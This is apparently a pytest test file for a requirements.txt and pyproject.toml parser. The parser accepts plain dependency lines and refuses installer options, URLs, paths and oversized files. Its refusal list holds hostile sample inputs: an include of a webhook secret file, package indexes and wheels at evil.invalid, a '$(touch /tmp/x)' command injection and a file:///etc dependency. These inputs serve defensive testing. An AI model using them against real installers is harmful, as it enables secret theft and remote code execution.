"""Dependency files from a pushed commit: plain requirements pass, anything that steers the installer is refused."""

from __future__ import annotations

import pytest

from relaunch.domain.dependencies import (
    Declared,
    DependencyFileError,
    declared,
    environment_hash,
    is_environment_hash,
    parse_requirements_txt,
)

SHA = "a" * 64


def test_plain_requirements_are_kept_normalised_and_comments_dropped() -> None:
    text = (
        "# training deps\n\nscikit-learn==1.6.*  # serving minor\n"
        "numpy >= 1.26, < 3 ; python_version >= '3.11'\n"
        "requests[socks] (>=2.31)\n"
        f"joblib==1.4.2 \\\n    --hash=sha256:{SHA}\n"
        "tqdm#not-a-comment-without-space\n"
    )
    with pytest.raises(DependencyFileError, match="line 8"):
        parse_requirements_txt(text)  # `#` without a space before it is part of the requirement, which is then bad
    assert parse_requirements_txt(text.rsplit("tqdm", 1)[0]) == (
        "scikit-learn==1.6.*",
        "numpy >= 1.26, < 3 ; python_version >= '3.11'",
        "requests[socks] (>=2.31)",
        f"joblib==1.4.2 --hash=sha256:{SHA}",
    )


@pytest.mark.parametrize(
    "line",
    [
        "-r /root/.relaunch/secrets/github_webhook_secret",
        "--requirement=other.txt",
        "-c constraints.txt",
        "-e .",
        "--index-url https://user:pass@evil.invalid/simple",
        "--extra-index-url http://evil.invalid",
        "-f /tmp/wheels",
        "probe @ https://evil.invalid/probe.whl",
        "git+https://github.com/x/y",
        "./local/package",
        "/abs/package.whl",
        "numpy==1.0 --index-url http://evil.invalid",
        "numpy==1.0 --hash=md5:abc",
        "numpy;$(touch /tmp/x)",
    ],
)
def test_options_includes_urls_and_paths_are_refused_naming_the_line(line: str) -> None:
    with pytest.raises(DependencyFileError, match=r"^requirements\.txt line 2: "):
        parse_requirements_txt(f"numpy\n{line}\n")


def test_requirements_txt_wins_over_pyproject_and_a_tool_only_pyproject_declares_nothing() -> None:
    toml = b'[project]\nname = "m"\nversion = "0"\ndependencies = ["numpy>=2"]\n'
    assert declared(b"scipy\n", toml) == Declared("requirements.txt", ("scipy",))
    assert declared(None, toml) == Declared("pyproject.toml", ("numpy>=2",))
    assert declared(None, b'[project]\nname = "m"\n') == Declared("pyproject.toml", ())
    assert declared(None, b"[tool.ruff]\nline-length = 100\n") is None
    assert declared(None, None) is None


@pytest.mark.parametrize(
    ("toml", "message"),
    [
        (b"[project\n", "not valid TOML"),
        (b'[project]\ndynamic = ["dependencies"]\n', "dynamic"),
        (b"[project]\ndependencies = 'numpy'\n", "list of strings"),
        (b'[project]\ndependencies = ["numpy @ file:///etc"]\n', "pyproject.toml dependency 1"),
        (b"project = 3\n", "must be a table"),
    ],
)
def test_a_bad_pyproject_is_refused_with_the_reason(toml: bytes, message: str) -> None:
    with pytest.raises(DependencyFileError, match=message):
        declared(None, toml)


def test_oversized_and_undecodable_files_are_refused() -> None:
    with pytest.raises(DependencyFileError, match="more than"):
        declared(b"numpy\n" * 60_000, None)
    with pytest.raises(DependencyFileError, match="more than 500"):
        declared("".join(f"p{i}\n" for i in range(501)).encode(), None)
    with pytest.raises(DependencyFileError, match="not UTF-8"):
        declared(b"numpy\xff\n", None)
    with pytest.raises(DependencyFileError, match="longer than"):
        declared(b"numpy==" + b"1" * 1000 + b"\n", None)


def test_the_hash_follows_requirements_and_interpreter_not_comments() -> None:
    base = declared(b"numpy==2.0\nscipy\n", None)
    assert base is not None
    same = declared(b"# deps\nnumpy==2.0   # pinned\n\nscipy\n", None)
    other = declared(b"numpy==2.1\nscipy\n", None)
    assert same is not None and other is not None
    digest = environment_hash(base, "/usr/bin/python3.11 3.11.7")
    assert is_environment_hash(digest) and digest == environment_hash(same, "/usr/bin/python3.11 3.11.7")
    assert digest != environment_hash(other, "/usr/bin/python3.11 3.11.7")
    assert digest != environment_hash(base, "/usr/bin/python3.12 3.12.1")
    assert not is_environment_hash("../../usr") and not is_environment_hash(digest.upper())
